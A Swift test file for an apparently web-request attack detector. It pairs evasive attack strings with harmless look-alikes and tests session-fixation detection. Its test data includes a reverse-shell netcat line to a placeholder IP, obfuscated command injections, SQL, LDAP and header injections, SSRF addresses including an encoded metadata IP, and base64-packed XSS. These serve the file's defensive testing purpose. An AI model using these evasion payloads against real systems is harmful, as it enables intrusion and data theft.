import Inspection
import Testing

/// Attacks in forms that only an evasion or a gadget has, each beside its honest look-alike.
@Suite struct EvasionTests {
  @Test(arguments: [
    ("time curl -s evil.example", Sign.commandInjection),
    ("sudo cat -n /etc/hosts", .commandInjection),
    ("ls -la /var/log", .commandInjection), (";\\n.shell nc 192.0.2.1 9 -e sh", .commandInjection),
    ("diff <(sort a) <(sort b)", .commandInjection), ("1;wh$_oami", .commandInjection),
    ("/???/??t", .commandInjection), ("ping$() 192.0.2.1", .commandInjection),
    ("tail /va*/*og", .commandInjection), ("head /[e//]tc/hosts", .commandInjection),
    ("ls /r[o//]ot", .commandInjection),
    ("if not defined x set x=1", .commandInjection), ("if errorlevel 3 goto a", .commandInjection),
    ("system/* x */('id')", .codeInjection), ("exec #\n ('id')", .codeInjection),
    ("[ system ] [ 0 ] ( id );", .codeInjection), ("$a/*x*/('id')", .codeInjection),
    ("<?php echo 1;", .codeInjection), ("{% if a %}b{% endif %}", .codeInjection),
    ("while(1);", .codeInjection), ("for(;;){}", .codeInjection),
    ("process['env']['HOME']", .codeInjection), ("$1:constructor:constructor", .codeInjection),
    ("c\\u006fnsole.log(1)", .codeInjection), ("@{[`id`]}", .codeInjection),
    ("&#x0003c;b&#x0003e;", .crossSiteScripting), ("prompt(1)><b", .crossSiteScripting),
    ("/proc/cpuinfo", .pathTraversal), ("0x2e0x2e/0x2e0x2e/x", .pathTraversal),
    ("http://192.0.2.66/x.php", .pathTraversal),
    ("file://etc/services", .serverSideRequestForgery),
    ("http:127.0.0.1", .serverSideRequestForgery), ("http://[::]/", .serverSideRequestForgery),
    ("http://169\u{3002}254\u{3002}169\u{3002}254/", .serverSideRequestForgery),
    ("http://7147006462/", .serverSideRequestForgery),
    ("jar:http://a.example/b.zip!/c", .serverSideRequestForgery),
    ("x)|(uid=*", .ldapInjection), ("x)&(cn=a*", .ldapInjection),
    ("a\r\nRCPT TO:<x@example.com>", .headerInjection), ("\nRETR 12", .headerInjection),
    ("5 or /*+ hint */ true", .sqlInjection), ("' or x=x#", .sqlInjection),
    ("1 rlike sleep(5)", .sqlInjection), ("; insert into t (a) values (1)", .sqlInjection),
  ])
  func isProven(_ text: String, _ sign: Sign) {
    #expect(Probe(value: text).accusations.proven.contains(sign))
  }

  @Test(arguments: [
    "time management", "time python 3", "sudo make me a sandwich", "docker exec", "node -v or npm",
    "while (we wait)", "while(!true);", "for (a; b) c", "process of elimination", "console games",
    "if exist a better way", "if not defined yet, ask", "(see [1] (2))", "a[1](b)",
    "<?xml version='1.0'?>", "<?php", "localhost", "http://example.com/index.php",
    "https://cdn.jsdelivr.net/npm/@scope/pkg@1.2.3/x.js", "①②③ list", "東京。大阪。",
    "/posts/[id]/edit", "/files/[a/b]/c", "/v[1/2]", "/* a */ b /* c */", "/a*/ b",
    "/processing/1", "/system/status", "proc/sys", "(a)|(b)", "a&b (c)", "list 3\nbuy milk",
    "retr 12", "x or y=z", "insert into the slot", "or 97201", "&#039;quoted&#039;", "&#60;",
    "path=http", "\u{00e4}\u{00f6}", "YWJjZGVmZ2hpamtsbW5vcA==",
    "aHR0cHM6Ly9leGFtcGxlLmNvbS9wYXRoP2E9Yg==",
  ])
  func lookAlikesProveNothing(_ text: String) {
    #expect(Probe(value: text).accusations.proven == [])
  }

  @Test func whatIsPackedInBase64IsRead() {
    // while(true);  and  <script>alert(1)</script>
    #expect(Probe(value: "d2hpbGUodHJ1ZSk7Cg==").accusations.proven == [.codeInjection])
    #expect(
      Probe(value: "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==").accusations.proven
        == [.crossSiteScripting])
  }

  @Test func lettersNeedNoEncoding() {
    #expect(Probe("/s?q=%73%65%6c%65%63%74").accusations.proven == [.malformedRequests])
    #expect(Probe("/s?q=caf%C3%A9%20cr%C3%A8me").accusations.proven == [])
    #expect(Probe("/s?q=%61bc").accusations.proven == [])
  }

  @Test func namesThatAreNoNames() {
    #expect(Probe("/s?a[1]b=c").accusations.proven == [.malformedRequests])
    #expect(Probe("/s?a[1][b]=c&d[]=e&f[g]=h").accusations.proven == [])
    #expect(Probe("/s?a%0Ab=c").accusations.proven.contains(.headerInjection))
  }

  @Test func aFolderIsNoAddress() {
    for name in ["mosConfig_absolute_path", "_CONF[path]", "GLOBALS[root_dir]", "lib_inc"] {
      #expect(
        Probe("/x.php?\(name)=https://evil.example/").accusations.proven == [.pathTraversal])
    }
    for target in ["/x?path=https://a.example/", "/x?page_path=https://a.example/", "/x?a_path=b"] {
      #expect(Probe(target).accusations.proven == [])
    }
  }

  @Test func methodsThatNoFormSends() {
    #expect(Probe("/x?_method=MKCOL").accusations.proven == [.methodAbuse])
    for method in ["DELETE", "put", "PATCH", "UNSUBSCRIBE", "x-delete"] {
      #expect(Probe("/x?_method=\(method)").accusations.proven == [])
    }
  }

  @Test func aLineEndBehindAScriptsName() {
    #expect(
      Probe("/index.php/A%0Ab.auto_start=1;;;?Q").accusations.proven == [.headerInjection])
    #expect(Probe("/page%0A").accusations.proven == [])
  }
}

/// A session brought along in the address.
@Suite struct SessionFixationTests {
  private func isProven(_ target: String, referer: String, host: String = "") -> Bool {
    var probe = Probe(target)
    probe.referer = referer
    probe.host = host
    return probe.accusations.proven.contains(.sessionFixation)
  }

  @Test func fromAnotherSite() {
    #expect(isProven("/login?laravel_session=abc", referer: "https://evil.example/"))
    #expect(isProven("/a?PHPSESSID=abc", referer: "https://evil.example/x", host: "shop.example"))
  }

  @Test func oldApplicationsCarryTheSessionInTheirLinks() {
    // The referring page carries it as well, or is on the same host, or nobody can tell.
    #expect(!isProven("/login?asp.net_sessionid=a", referer: "https://a/?ASP.NET_SessionId=a"))
    #expect(!isProven("/a?PHPSESSID=abc", referer: "https://Shop.example/x", host: "shop.example"))
    #expect(!isProven("/login?PHPSESSID=abc", referer: "https://shop.example/"))
    #expect(!isProven("/done?session_id=cs_1", referer: "https://pay.example/"))
    #expect(!isProven("/login?connect.sid=abc", referer: ""))
    #expect(!isProven("/login?next=/a", referer: "https://evil.example/"))
  }
}
